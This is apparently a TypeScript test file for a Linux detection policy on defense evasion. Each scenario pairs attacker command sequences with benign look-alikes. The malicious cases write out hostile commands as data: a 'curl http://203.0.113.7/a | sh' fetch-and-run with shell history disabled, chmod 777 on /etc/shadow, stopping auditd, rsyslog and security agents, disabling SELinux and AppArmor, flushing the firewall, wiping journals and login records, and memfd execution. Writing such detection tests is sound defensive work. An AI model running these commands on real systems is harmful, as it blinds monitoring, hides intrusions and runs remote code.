/** Defense evasion procedures (policies/linux/defense_evasion_procedures.toml). */
import { run, runArgv, runDoing, sc, type Scenario, sleep, write } from "../scenario.ts";

const SC = "/usr/bin/systemctl";
const BASH = "/usr/bin/bash";

export const DEFENSE_EVASION: Scenario[] = [
  sc(
    "self_delete_running_binary",
    "user",
    [runDoing("/tmp/.x/upd", ["/tmp/.x/upd"], [sleep(300), { unlink: "/tmp/.x/upd" }], {
      stdin: "null",
      stdout: "null",
    })],
    // a program removes its own temp files, and rm removes a binary it is not
    [
      runDoing("/home/alice/bin/build-tool", ["build-tool"], [{ unlink: "/tmp/build-tool.lock" }]),
      run("/usr/bin/rm", "-f", "/home/alice/bin/old-tool"),
    ],
  ),
  sc(
    "script_self_delete",
    "user",
    [runDoing(BASH, ["bash", "/tmp/inst.sh"], [
      run("/usr/bin/curl", "-fsSo", "/tmp/.x", "http://203.0.113.7/x"),
      run("/usr/bin/rm", "-f", "/tmp/inst.sh"),
    ])],
    [runDoing(BASH, ["bash", "/home/alice/build.sh"], [
      run("/usr/bin/rm", "-f", "/tmp/build.log"),
    ])],
  ),
  sc(
    "sensitive_file_permissions",
    "root",
    [run("/usr/bin/chmod", "777", "/etc/shadow")],
    [
      run("/usr/bin/chmod", "640", "/etc/shadow"),
      run("/usr/bin/chown", "root:shadow", "/etc/shadow"),
    ],
  ),
  sc(
    "auditd_stop",
    "root",
    [run("/usr/sbin/service", "auditd", "stop"), run(SC, "disable", "auditd")],
    [run(SC, "status", "auditd"), run(SC, "restart", "auditd")],
  ),
  sc(
    "audit_rules_delete",
    "root",
    [run("/usr/sbin/auditctl", "-D"), run("/usr/sbin/auditctl", "-e", "0")],
    [run("/usr/sbin/auditctl", "-l"), run("/usr/sbin/auditctl", "-s")],
  ),
  sc(
    "syslog_stop",
    "root",
    [run(SC, "stop", "rsyslog")],
    [run(SC, "restart", "rsyslog"), run(SC, "stop", "nginx")],
  ),
  sc(
    "security_agent_stop",
    "root",
    [run(SC, "stop", "falcon-sensor"), run("/usr/bin/pkill", "-9", "osqueryd")],
    [run(SC, "stop", "apache2"), run("/usr/bin/pkill", "-HUP", "nginx")],
  ),
  sc(
    "selinux_disable",
    "root",
    [run("/usr/sbin/setenforce", "0")],
    [run("/usr/sbin/getenforce"), run("/usr/sbin/setenforce", "1")],
  ),
  sc(
    "apparmor_disable",
    "root",
    [run("/usr/sbin/aa-teardown")],
    [
      run("/usr/sbin/aa-status"),
      run("/usr/sbin/apparmor_parser", "-r", "/etc/apparmor.d/usr.sbin.nginx"),
    ],
  ),
  sc(
    "firewall_flush",
    "root",
    [run("/usr/sbin/iptables", "-F"), run("/usr/sbin/iptables", "-P", "INPUT", "ACCEPT")],
    [
      run("/usr/sbin/iptables", "-L", "-n"),
      run("/usr/sbin/iptables", "-A", "INPUT", "-p", "tcp", "--dport", "443", "-j", "ACCEPT"),
      run("/usr/sbin/ufw", "status"),
    ],
  ),
  sc(
    "journal_vacuum",
    "root",
    [run("/usr/bin/journalctl", "--rotate"), run("/usr/bin/journalctl", "--vacuum-time=1s")],
    [
      run("/usr/bin/journalctl", "--vacuum-time=2weeks"),
      run("/usr/bin/journalctl", "--vacuum-size=500M"),
    ],
  ),
  sc(
    "login_record_tamper",
    "root",
    [runDoing("/usr/bin/python3", ["python3", "/tmp/.w/wtmpclean.py", "alice"], [
      write("/var/log/wtmp", { create: false }),
    ])],
    [runDoing("/usr/bin/last", ["last", "-n", "20"], [{ open: "/var/log/wtmp" }])],
  ),
  sc(
    "hidden_file_system_dir",
    "root",
    [runDoing("/usr/bin/cp", ["cp", "/tmp/x", "/usr/lib/x86_64-linux-gnu/.libsys.so"], [
      write("/usr/lib/x86_64-linux-gnu/.libsys.so"),
    ])],
    [
      runDoing("/usr/sbin/ldconfig", ["ldconfig"], [write("/etc/ld.so.cache~")]),
      runDoing("/usr/bin/vim.basic", ["vim", "/usr/local/bin/backup"], [
        write("/usr/local/bin/backup"),
      ]),
    ],
  ),
  sc(
    "bind_mount_over_proc",
    "root",
    [run("/usr/bin/mkdir", "/tmp/.e"), run("/usr/bin/mount", "--bind", "/tmp/.e", "/proc/31337")],
    [run("/usr/bin/mount", "--bind", "/srv/data", "/var/www/data")],
  ),
  sc(
    "decode_to_executable",
    "user",
    [
      runDoing("/usr/bin/base64", ["base64", "-d", "/tmp/p.b64"], [write("/tmp/.p")]),
      run("/usr/bin/chmod", "+x", "/tmp/.p"),
      runArgv("/tmp/.p", ["/tmp/.p"]),
    ],
    [
      runDoing("/usr/bin/base64", ["base64", "-d", "cert.b64"], [write("/home/alice/cert.pem")]),
      run("/usr/bin/openssl", "x509", "-in", "/home/alice/cert.pem", "-noout", "-text"),
    ],
  ),
  sc(
    "memfd_exec",
    "user",
    [runDoing("/usr/bin/python3", ["python3", "-c", "import os;fd=os.memfd_create('',0);..."], [
      runArgv("/memfd: (deleted)", ["[kworker/u8:2]"]),
    ])],
    [runDoing("/usr/bin/python3", ["python3", "-c", "import os;fd=os.memfd_create('buf',0)"], [])],
  ),
  sc(
    "deleted_binary_exec",
    "user",
    [runArgv("/tmp/.x (deleted)", ["/tmp/.x"])],
    [runArgv("/home/alice/bin/tool", ["tool", "--deleted"])],
  ),
  sc(
    "process_name_spoof_temp",
    "user",
    [runArgv("/var/tmp/.ICE/x86", ["sshd"])],
    [
      runArgv("/home/alice/bin/sshd-proxy", ["sshd-proxy"]),
      runArgv("/tmp/tmux-1000/default", ["default"]),
    ],
  ),
  sc(
    "shell_history_disabled",
    "user",
    [run(BASH, "-c", "unset HISTFILE; export HISTSIZE=0; curl -s http://203.0.113.7/a | sh")],
    [run(BASH, "-c", "echo $HISTFILE; wc -l ~/.bash_history")],
  ),
  sc(
    "tool_history_wipe",
    "user",
    [run("/usr/bin/ln", "-sf", "/dev/null", "/home/alice/.mysql_history")],
    [run("/usr/bin/ln", "-sf", "/home/alice/dotfiles/.vimrc", "/home/alice/.vimrc")],
  ),
];
